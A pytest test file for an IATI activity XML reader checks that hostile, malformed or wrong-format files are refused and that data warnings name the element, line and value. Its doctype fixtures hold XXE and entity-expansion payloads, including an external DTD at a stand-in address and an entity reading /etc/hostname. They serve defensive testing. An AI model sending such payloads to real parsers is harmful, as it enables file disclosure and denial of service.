"""Files that are hostile, broken or something else: refused with the line and the reason."""

import socket
from io import BytesIO
from typing import Any

import pytest

from coordination.exchange.findings import RefusedError
from coordination.exchange.iati.reading import ReadActivity, activities_in

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
ACTIVITY = (
    '<iati-activity xml:lang="fr" default-currency="EUR"><iati-identifier>ML-1</iati-identifier>'
    "<title><narrative>Titre</narrative></title>{}</iati-activity>"
)


def _file(inside: str, head: str = HEAD) -> str:
    return f'{head}<iati-activities version="2.03">\n{inside}\n</iati-activities>'


def _read(said: str, encoding: str = "utf-8") -> list[ReadActivity]:
    return list(activities_in(BytesIO(said.encode(encoding))))


def _refusal(said: str | bytes) -> Any:
    with pytest.raises(RefusedError) as refused:
        list(activities_in(BytesIO(said.encode() if isinstance(said, str) else said)))
    return refused.value.finding


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    "doctype",
    [
        LAUGHS,
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>',
        "<!-- first a remark -->\n<!DOCTYPE iati-activities>",
    ],
)
def test_document_type_is_refused_before_anything_is_fetched(
    doctype: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def connect(*_: object) -> None:
        raise AssertionError("a connection was tried")

    monkeypatch.setattr(socket.socket, "connect", connect)
    said = _file(ACTIVITY.format("<description>&e;</description>"), HEAD + doctype)
    assert _refusal(said).code == "has_doctype"
    sixteen = said.replace("UTF-8", "UTF-16").encode("utf-16")
    assert _refusal(sixteen).code == "has_doctype"


def test_entity_in_an_attribute_of_the_root_is_refused() -> None:
    said = f'{LAUGHS}<iati-activities version="2.03" a="&b;">{ACTIVITY.format("")}</iati-activities>'
    assert _refusal(said).code == "has_doctype"


def test_unknown_entity_is_no_xml() -> None:
    assert _refusal(_file(ACTIVITY.format("&e;"))).code == "not_xml"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_encodings(encoding: str) -> None:
    said = _file(ACTIVITY.format(""), HEAD.replace("UTF-8", encoding)).replace("Titre", "Détenus")
    assert _read(said, encoding)[0].activity.title.fr == "Détenus"


@pytest.mark.parametrize(
    ("said", "code"),
    [
        ("", "not_xml"),
        ("titre;organisation", "not_xml"),
        (b"PK\x03\x04\x00\x00", "not_xml"),
        ('<?xml version="1.0" encoding="utf-7"?><iati-activities/>', "not_xml"),
        ("<iati-organisations version='2.03'/>", "not_activities"),
        ("<iati-activities version='1.05'></iati-activities>", "other_version"),
        ("<html><iati-activities/></html>", "not_activities"),
    ],
)
def test_other_files_are_refused(said: str | bytes, code: str) -> None:
    assert _refusal(said).code == code


def test_broken_file__gives_what_comes_before_and_the_line() -> None:
    stream = activities_in(BytesIO(_file(ACTIVITY.format("") + "\n<iati-activity>\n<title>").encode()))
    assert next(stream).activity.identifier == "ML-1"
    with pytest.raises(RefusedError) as refused:
        next(stream)
    assert refused.value.finding.code == "not_xml"
    assert refused.value.finding.row == 6


def test_findings__name_element_line_and_value() -> None:
    said = _file(
        ACTIVITY.format(
            '\n<activity-date type="1" iso-date="2026-13-40"/>'
            '\n<sector code="15130" percentage="many"/>'
            "\n<transaction><transaction-type code='3'/><transaction-date iso-date='2026-01-01'/>"
            "\n<value>NaN</value></transaction>"
        )
    )
    (found,) = _read(said)
    assert not found.blocked
    assert [(one.level, one.code, one.column, one.row, one.params["value"]) for one in found.findings] == [
        ("warning", "no_date", "activity-date", 4, "2026-13-40"),
        ("warning", "no_number", "sector", 5, "many"),
        ("warning", "no_number", "value", 7, "NaN"),
    ]


def test_without_identifier_or_title__is_blocked() -> None:
    (found,) = _read(_file("<iati-activity><iati-identifier> </iati-identifier></iati-activity>"))
    assert found.blocked
    assert [(one.code, one.column) for one in found.findings] == [
        ("is_missing", "iati-identifier"),
        ("is_missing", "title"),
    ]


def test_an_identifier_twice__blocks_the_second() -> None:
    first, second = _read(_file(ACTIVITY.format("") + "\n" + ACTIVITY.format("")))
    assert not first.blocked
    assert [(one.code, one.params["other"]) for one in second.findings] == [("identifier_twice", 3)]


def test_currency_and_language_are_inherited() -> None:
    said = ACTIVITY.format(
        "<transaction><transaction-type code='3'/><transaction-date iso-date='2026-01-01Z'/>"
        "<value value-date='2026-01-01'>1.10</value></transaction>"
    )
    (found,) = _read(_file(said))
    assert found.activity.transactions[0].money.currency == "EUR"
    assert found.activity.title.fr == "Titre"
